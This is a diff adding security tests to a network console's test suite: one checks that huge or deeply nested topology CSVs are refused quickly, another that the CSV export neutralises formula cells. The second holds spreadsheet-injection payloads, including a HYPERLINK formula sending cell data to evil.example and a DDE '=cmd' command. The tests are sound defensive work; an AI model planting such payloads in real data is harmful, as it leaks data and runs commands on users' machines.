@@ -6,11 +6,14 @@ about: the console keeps working for everyone else and refuses the attacker clea
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import os
 import statistics
 import subprocess
 import sys
+import threading
 import time
 import warnings
 from datetime import date
@@ -282,3 +285,97 @@ def test_attack_10_unknown_user_names_cost_a_password_check_too(
     # ...so its answer takes about as long (before: 7 ms against 132 ms).
     known, unknown = (statistics.median(timings[name]) for name in timings)
     assert unknown > 0.5 * known, (known, unknown)
+
+
+# --- row 11: a topology of 100k rows, or a 2,000-deep parent chain ---------------------
+
+TOPOLOGY_HEADER = "office,parent,type,subnets\nCentral Office,,Default,10.0.0.0/24\n"
+
+
+def wide_topology(offices: int) -> str:
+    rows = (
+        f"Office {number},Central Office,Default,"
+        f"{11 + (number >> 16)}.{(number >> 8) & 255}.{number & 255}.0/24"
+        for number in range(offices)
+    )
+    return TOPOLOGY_HEADER + "\n".join(rows) + "\n"
+
+
+def deep_topology(levels: int) -> str:
+    rows = ["Level 1,Central Office,Default,"]
+    rows += [f"Level {level},Level {level - 1},Default," for level in range(2, levels + 1)]
+    return TOPOLOGY_HEADER + "\n".join(rows) + "\n"
+
+
+def test_attack_11_huge_and_deep_topologies_are_refused_quickly_while_health_answers(
+    console: Harness,
+) -> None:
+    assert console.set_topology(CSV_TOPOLOGY).status_code == 200
+    attacks = [
+        (wide_topology(100_000), "more than 10000 offices: a topology holds at most 10000"),
+        (deep_topology(2_000), "levels below the root: a topology holds at most 32 levels"),
+    ]
+    health_times: list[float] = []
+    stop = threading.Event()
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        # In a `with` block, every request of this client runs on one event loop, as
+        # under uvicorn: a parse on the loop would hold the health checks back.
+        with TestClient(console.client.app, base_url="https://testserver") as client:
+
+            def poll_health() -> None:
+                while not stop.is_set():
+                    started = time.perf_counter()
+                    assert client.get("/api/v1/health").status_code == 200
+                    health_times.append(time.perf_counter() - started)
+                    time.sleep(0.01)
+
+            poller = threading.Thread(target=poll_health)
+            poller.start()
+            try:
+                while not health_times:
+                    time.sleep(0.01)
+                for text, limit in attacks:
+                    answered_before = len(health_times)
+                    started = time.perf_counter()
+                    answer = client.put(
+                        "/api/v1/topology",
+                        content=text,
+                        headers={**console.headers, "content-type": "text/csv"},
+                    )
+                    elapsed = time.perf_counter() - started
+                    assert answer.status_code == 422, answer.text[:300]
+                    assert limit in answer.json()["detail"]
+                    assert elapsed < 5, f"refused after {elapsed:.1f} s (was 15.8 s / 18.3 s)"
+                    time.sleep(0.2)
+                    assert len(health_times) > answered_before
+            finally:
+                stop.set()
+                poller.join()
+    assert max(health_times) < 1.0, f"/health waited {max(health_times):.2f} s"
+    # Nothing changed, and the office views answer at once.
+    started = time.perf_counter()
+    assert console.get("/api/v1/topology", params={"format": "csv"}).text == CSV_TOPOLOGY
+    assert len(console.get("/api/v1/offices").json()) == 4
+    assert time.perf_counter() - started < 2
+
+
+def test_attack_11_topology_csv_export_neutralises_formula_cells(console: Harness) -> None:
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+2", "-2+3", "@SUM(A1)", "'quoted"]
+    offices = [{"office": "Central Office", "parent": None, "subnets": ["10.0.0.0/24"]}]
+    offices += [
+        {"office": name, "parent": "Central Office", "subnets": [f"10.{number + 1}.0.0/24"]}
+        for number, name in enumerate(names)
+    ]
+    offices.append({"office": "Below", "parent": "=cmd|' /C calc'!A0", "subnets": []})
+    offices.append({"office": "=cmd|' /C calc'!A0", "parent": "Central Office", "subnets": []})
+    assert console.put("/api/v1/topology", json={"offices": offices}).status_code == 200
+    exported = console.get("/api/v1/topology", params={"format": "csv"}).text
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row[:2]]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in exported and "'@SUM(A1)" in exported and "''quoted" in exported
+    # The export uploads back unchanged: the apostrophes come off again.
+    before = console.get("/api/v1/topology").json()
+    assert console.set_topology(exported).status_code == 200
+    assert console.get("/api/v1/topology").json() == before
+    assert console.get("/api/v1/topology", params={"format": "csv"}).text == exported
